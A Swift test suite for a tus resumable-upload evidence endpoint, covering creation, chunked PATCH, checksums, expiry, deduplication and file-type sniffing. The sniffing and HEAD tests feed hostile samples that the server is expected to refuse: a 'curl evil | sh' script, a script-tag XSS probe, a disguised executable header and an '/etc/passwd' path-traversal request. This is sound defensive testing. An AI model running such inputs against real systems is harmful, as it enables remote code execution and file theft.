import AttestCore
import AttestPersistence
import AttestTestSupport
import Crypto
import Foundation
import NIOCore
import Testing
import Vapor
import VaporTesting

@testable import AttestWeb

/// A tus 1.0.0 client over the in-memory tester.
struct TusClient {
    let app: Application

    func send(
        _ method: HTTPMethod, _ path: String, headers extra: HTTPHeaders = [:], body: [UInt8]? = nil,
        version: String? = "1.0.0"
    ) async throws -> TestingHTTPResponse {
        var headers = extra
        if let version { headers.replaceOrAdd(name: "Tus-Resumable", value: version) }
        if body != nil, !headers.contains(name: .contentType) {
            headers.replaceOrAdd(name: .contentType, value: "application/offset+octet-stream")
        }
        return try await app.testing().sendRequest(
            method, path, headers: headers, body: body.map { ByteBuffer(bytes: $0) })
    }

    /// Creates an upload of `length` bytes; returns its path.
    func create(length: Int, metadata: String? = nil) async throws -> String {
        var headers: HTTPHeaders = ["Upload-Length": "\(length)"]
        if let metadata { headers.replaceOrAdd(name: "Upload-Metadata", value: metadata) }
        let response = try await send(.POST, "/uploads", headers: headers)
        #expect(response.status == .created, "\(response.body.string)")
        return try #require(response.headers.first(name: .location))
    }

    func patch(_ path: String, offset: Int, _ bytes: [UInt8], headers extra: HTTPHeaders = [:]) async throws
        -> TestingHTTPResponse
    {
        var headers = extra
        headers.replaceOrAdd(name: "Upload-Offset", value: "\(offset)")
        return try await send(.PATCH, path, headers: headers, body: bytes)
    }

    /// Uploads `bytes` whole, in chunks of `chunk`; returns the upload id.
    func upload(_ bytes: [UInt8], chunk: Int = 1 << 20, metadata: String? = nil) async throws -> String {
        let path = try await create(length: bytes.count, metadata: metadata)
        var offset = 0
        while offset < bytes.count {
            let end = min(offset + chunk, bytes.count)
            let response = try await patch(path, offset: offset, Array(bytes[offset..<end]))
            #expect(response.status == .noContent, "\(response.body.string)")
            offset = end
        }
        return String(path.split(separator: "/").last!)
    }
}

enum Samples {
    /// A JPEG-typed file of `size` bytes: the JPEG signature, then deterministic noise.
    static func jpeg(size: Int, seed: UInt8 = 1) -> [UInt8] {
        var bytes: [UInt8] = [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + Array("JFIF".utf8)
        var state = UInt32(seed) &* 2_654_435_761
        while bytes.count < size {
            state = state &* 1_664_525 &+ 1_013_904_223
            bytes.append(UInt8(truncatingIfNeeded: state >> 24))
        }
        return Array(bytes.prefix(size))
    }

    static func sha256(_ bytes: [UInt8]) -> String { ContentHash.hex(SHA256.hash(data: bytes)) }
    static func sha512(_ bytes: [UInt8]) -> String { ContentHash.hex(SHA512.hash(data: bytes)) }
}

extension TestHarness {
    var storeURL: URL { dataDirectory.appendingPathComponent("evidence/objects") }
    var uploadsURL: URL { dataDirectory.appendingPathComponent("uploads") }

    func storedFiles() -> [String] {
        let walker = FileManager.default.enumerator(atPath: storeURL.path)
        var names: [String] = []
        while let path = walker?.nextObject() as? String {
            let name = String(path.split(separator: "/").last!)
            if path.split(separator: "/").count == 3, name.utf8.count == 64 { names.append(name) }
        }
        return names.sorted()
    }

    func partFiles() -> [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: uploadsURL.path)) ?? []).sorted()
    }
}

@Suite("tus uploads")
struct UploadsTests {
    @Test("OPTIONS announces version, extensions, checksum algorithms and the size limit")
    func options() async throws {
        try await withAttest { harness in
            let response = try await TusClient(app: harness.app).send(.OPTIONS, "/uploads", version: nil)
            #expect(response.status == .noContent)
            #expect(response.headers.first(name: "Tus-Resumable") == "1.0.0")
            #expect(response.headers.first(name: "Tus-Version") == "1.0.0")
            let extensions = Set(response.headers.first(name: "Tus-Extension")!.split(separator: ","))
            #expect(
                extensions == ["creation", "creation-with-upload", "termination", "checksum", "expiration"])
            #expect(response.headers.first(name: "Tus-Checksum-Algorithm") == "sha1,sha256")
            #expect(response.headers.first(name: "Tus-Max-Size") == "\(4 << 30)")
        }
    }

    @Test("Creation: 201 with Location and Upload-Expires; bad or missing headers are refused clearly")
    func creation() async throws {
        try await withAttest(configure: { $0.evidence.maxFileBytes = 1000 }) { harness in
            let tus = TusClient(app: harness.app)
            let created = try await tus.send(.POST, "/uploads", headers: ["Upload-Length": "10"])
            #expect(created.status == .created)
            let location = try #require(created.headers.first(name: .location))
            #expect(location.wholeMatch(of: /\/uploads\/[0-9a-f]{32}/) != nil)
            #expect(created.headers.first(name: "Upload-Expires")?.hasSuffix(" GMT") == true)
            #expect(created.headers.first(name: "Tus-Resumable") == "1.0.0")

            let noVersion = try await tus.send(.POST, "/uploads", headers: ["Upload-Length": "10"], version: nil)
            #expect(noVersion.status == .preconditionFailed)
            #expect(noVersion.headers.first(name: "Tus-Version") == "1.0.0")
            let oldVersion = try await tus.send(.POST, "/uploads", headers: ["Upload-Length": "10"], version: "0.2.2")
            #expect(oldVersion.status == .preconditionFailed)
            for length in ["", "-1", "ten", "1e3", "٣", "+5"] {
                let response = try await tus.send(.POST, "/uploads", headers: ["Upload-Length": length])
                #expect(response.status == .badRequest, "Upload-Length \(length)")
                #expect(response.body.string.contains("Upload-Length"))
            }
            let deferred = try await tus.send(.POST, "/uploads", headers: ["Upload-Defer-Length": "1"])
            #expect(deferred.status == .badRequest)
            let tooLarge = try await tus.send(.POST, "/uploads", headers: ["Upload-Length": "1001"])
            #expect(tooLarge.status == .payloadTooLarge)
            #expect(tooLarge.body.string.contains("1,000 bytes"))
            for metadata in [
                "sha256 !!!", "sha256 YWJj", "a 1,a 2", "x y z", "sha256 " + Data("zz".utf8).base64EncodedString(),
            ] {
                let response = try await tus.send(
                    .POST, "/uploads", headers: ["Upload-Length": "10", "Upload-Metadata": metadata])
                #expect(response.status == .badRequest, "\(metadata)")
            }
            let spanish = try await tus.send(
                .POST, "/uploads", headers: ["Upload-Length": "1001", "Accept-Language": "es"])
            #expect(spanish.body.string.contains("demasiado grande"))
        }
    }

    @Test("The free-disk floor refuses new uploads with 507")
    func diskFloor() async throws {
        try await withAttest(configure: { $0.evidence.freeDiskFloorBytes = 1 << 60 }) { harness in
            let response = try await TusClient(app: harness.app).send(
                .POST, "/uploads", headers: ["Upload-Length": "10"])
            #expect(response.status == .insufficientStorage)
            #expect(harness.partFiles().isEmpty)
        }
    }

    @Test("PATCH appends at the offset; HEAD reports it; conflicts, wrong types and overlong chunks change nothing")
    func patching() async throws {
        try await withAttest { harness in
            let tus = TusClient(app: harness.app)
            let file = Samples.jpeg(size: 3_000_000)
            let path = try await tus.create(length: file.count)
            let first = try await tus.patch(path, offset: 0, Array(file[0..<1_234_567]))
            #expect(first.status == .noContent)
            #expect(first.headers.first(name: "Upload-Offset") == "1234567")
            #expect(first.headers.first(name: "Upload-Expires") != nil)

            #expect(try await tus.send(.GET, path).body.readableBytes < 1_000, "no download route")
            let head = try await tus.send(.HEAD, path)
            #expect(head.status == .ok)
            #expect(head.headers.first(name: "Upload-Offset") == "1234567")
            #expect(head.headers.first(name: "Upload-Length") == "3000000")
            #expect(head.headers.first(name: .cacheControl) == "no-store")

            let conflict = try await tus.patch(path, offset: 0, Array(file[0..<10]))
            #expect(conflict.status == .conflict)
            #expect(conflict.body.string.contains("1234567"))
            let wrongType = try await tus.send(
                .PATCH, path, headers: ["Upload-Offset": "1234567", "Content-Type": "application/octet-stream"],
                body: Array(file[1_234_567..<1_234_577]))
            #expect(wrongType.status == .unsupportedMediaType)
            let badOffset = try await tus.patch(path, offset: -5, [1])
            #expect(badOffset.status == .badRequest)
            let overlong = try await tus.patch(path, offset: 1_234_567, Array(file[1_234_567...]) + [0])
            #expect(overlong.status == .payloadTooLarge)
            #expect(try await tus.send(.HEAD, path).headers.first(name: "Upload-Offset") == "1234567")

            let rest = try await tus.patch(path, offset: 1_234_567, Array(file[1_234_567...]))
            #expect(rest.status == .noContent)
            #expect(rest.headers.first(name: "Upload-Offset") == "3000000")
            #expect(harness.storedFiles() == [Samples.sha256(file)])
            #expect(harness.partFiles().isEmpty)
            // A retried final empty PATCH is answered; bytes beyond the end are a conflict.
            #expect(try await tus.patch(path, offset: 3_000_000, []).status == .noContent)
            #expect(try await tus.patch(path, offset: 0, [1]).status == .conflict)
            // Sealed: read-only, exactly the bytes sent.
            let stored = harness.storeURL.appendingPathComponent(
                "\(Samples.sha256(file).prefix(2))/\(Samples.sha256(file).dropFirst(2).prefix(2))/\(Samples.sha256(file))"
            )
            #expect(Array(try Data(contentsOf: stored)) == file)
            let mode = try FileManager.default.attributesOfItem(atPath: stored.path)[.posixPermissions] as? Int
            #expect(mode == 0o400)

            #expect(try await tus.send(.HEAD, "/uploads/0123456789abcdef0123456789abcdef").status == .notFound)
            let traversal = try await tus.send(.HEAD, "/uploads/..%2F..%2Fetc%2Fpasswd")
            #expect([.notFound, .forbidden].contains(traversal.status), "\(traversal.status)")
        }
    }

    @Test("HEAD echoes the client's Upload-Metadata while the upload is pending; attaching forgets it")
    func metadataEcho() async throws {
        try await withAttest { harness in
            let tus = TusClient(app: harness.app)
            let file = Samples.jpeg(size: 3_000)
            let metadata = "filename \(Data("IMG_0042.jpg".utf8).base64EncodedString()),is_confidential"
            let path = try await tus.create(length: file.count, metadata: metadata)
            #expect(try await tus.send(.HEAD, path).headers.first(name: "Upload-Metadata") == metadata)
            #expect(try await tus.patch(path, offset: 0, file).status == .noContent)
            #expect(try await tus.send(.HEAD, path).headers.first(name: "Upload-Metadata") == metadata)
            let id = String(path.split(separator: "/").last!)
            let created = try await APIClient(app: harness.app).post(
                "/api/v1/reports", json: EvidenceTests().reportJSON(uploads: [id]))
            #expect(created.status == .created)
            let after = try await tus.send(.HEAD, path)
            #expect(after.headers.first(name: "Upload-Metadata") == nil)
            #expect(after.headers.first(name: "Upload-Offset") == "3000")
            let terminate = try await tus.send(.DELETE, path)
            #expect(terminate.status == .conflict, "attached evidence cannot be cancelled")
            #expect(terminate.body.string.contains("already attached"))
            #expect(harness.storedFiles() == [Samples.sha256(file)])
        }
    }

    @Test("Checksums: a chunk that fails its sha1 or sha256 checksum is discarded with 460")
    func checksums() async throws {
        try await withAttest { harness in
            let tus = TusClient(app: harness.app)
            let file = Samples.jpeg(size: 2_000)
            let path = try await tus.create(length: file.count)
            let chunk = Array(file[0..<1_000])
            let sha1 = Data(Insecure.SHA1.hash(data: chunk)).base64EncodedString()
            let wrong = try await tus.patch(
                path, offset: 0, chunk,
                headers: ["Upload-Checksum": "sha1 \(Data(Insecure.SHA1.hash(data: [1])).base64EncodedString())"])
            #expect(wrong.status.code == 460)
            #expect(try await tus.send(.HEAD, path).headers.first(name: "Upload-Offset") == "0")
            let unsupported = try await tus.patch(path, offset: 0, chunk, headers: ["Upload-Checksum": "md5 \(sha1)"])
            #expect(unsupported.status == .badRequest)
            let right = try await tus.patch(path, offset: 0, chunk, headers: ["Upload-Checksum": "sha1 \(sha1)"])
            #expect(right.status == .noContent)
            let rest = Array(file[1_000...])
            let sha256 = Data(SHA256.hash(data: rest)).base64EncodedString()
            let done = try await tus.patch(path, offset: 1_000, rest, headers: ["Upload-Checksum": "sha256 \(sha256)"])
            #expect(done.status == .noContent)
            // The whole file's digests are still right after the discarded chunk.
            #expect(harness.storedFiles() == [Samples.sha256(file)])
        }
    }

    @Test("creation-with-upload, termination (404 afterwards) and expiration (410, then swept)")
    func lifecycle() async throws {
        let clock = TestClock()
        try await withAttest(clock: clock) { harness in
            let tus = TusClient(app: harness.app)
            let file = Samples.jpeg(size: 5_000)
            let created = try await tus.send(
                .POST, "/uploads", headers: ["Upload-Length": "5000"], body: Array(file[0..<2_000]))
            #expect(created.status == .created)
            #expect(created.headers.first(name: "Upload-Offset") == "2000")
            let path = try #require(created.headers.first(name: .location))

            #expect(try await tus.send(.DELETE, path).status == .noContent)
            #expect(try await tus.send(.HEAD, path).status == .notFound)
            #expect(try await tus.patch(path, offset: 2_000, Array(file[2_000...])).status == .notFound)
            #expect(try await tus.send(.DELETE, path).status == .notFound)
            #expect(harness.partFiles().isEmpty)

            let expiring = try await tus.create(length: 5_000)
            #expect(try await tus.patch(expiring, offset: 0, Array(file[0..<100])).status == .noContent)
            clock.advance(by: 24 * 3600 + 1)
            #expect(try await tus.send(.HEAD, expiring).status == .gone)
            #expect(try await tus.patch(expiring, offset: 100, Array(file[100...])).status == .gone)
            #expect(try await harness.app.attest.uploads.sweep(now: clock.now()) == 1)
            #expect(harness.partFiles().isEmpty)
            #expect(try await tus.send(.HEAD, expiring).status == .gone)
        }
    }

    @Test("Content decides the type: an executable or a script named .jpg is refused and nothing is kept")
    func sniffing() async throws {
        try await withAttest(configure: { $0.evidence.allowList = EvidenceAllowList(entries: ["image", "video"]) }) {
            harness in
            let tus = TusClient(app: harness.app)
            let refused: [[UInt8]] = [
                Array("MZ\u{90}\0".utf8) + Array(repeating: 0, count: 200),
                Array("#!/bin/sh\ncurl evil | sh\n".utf8),
                Array("<script>alert(1)</script>".utf8),
                Array("%PDF-1.7\n".utf8) + Array(repeating: 0x20, count: 100),  // PDF: recognised but not allowed here
            ]
            for bytes in refused {
                let path = try await tus.create(
                    length: bytes.count, metadata: "filename " + Data("photo.jpg".utf8).base64EncodedString())
                let response = try await tus.patch(path, offset: 0, bytes)
                #expect(response.status == .unsupportedMediaType)
                #expect(response.body.string.contains("Nothing was kept"))
                #expect(try await tus.send(.HEAD, path).status == .gone)
            }
            #expect(harness.storedFiles().isEmpty)
            #expect(harness.partFiles().isEmpty)
        }
    }

    @Test("Identical files are stored once; the sender's SHA-256 is checked (460, nothing kept, on a mismatch)")
    func deduplicationAndSenderHash() async throws {
        try await withAttest { harness in
            let tus = TusClient(app: harness.app)
            let file = Samples.jpeg(size: 70_000)
            let hash = Samples.sha256(file)
            let metadata =
                "sha256 " + Data(hash.utf8).base64EncodedString() + ",filename "
                + Data("a.jpg".utf8).base64EncodedString()
            _ = try await tus.upload(file, chunk: 30_000, metadata: metadata)
            _ = try await tus.upload(file, chunk: 70_000)
            #expect(harness.storedFiles() == [hash])

            let other = Samples.jpeg(size: 1_000, seed: 9)
            let path = try await tus.create(length: other.count, metadata: metadata)
            let response = try await tus.patch(path, offset: 0, other)
            #expect(response.status.code == 460)
            #expect(response.body.string.contains("not the one your device sent"))
            #expect(harness.storedFiles() == [hash])
            #expect(harness.partFiles().isEmpty)
        }
    }
}
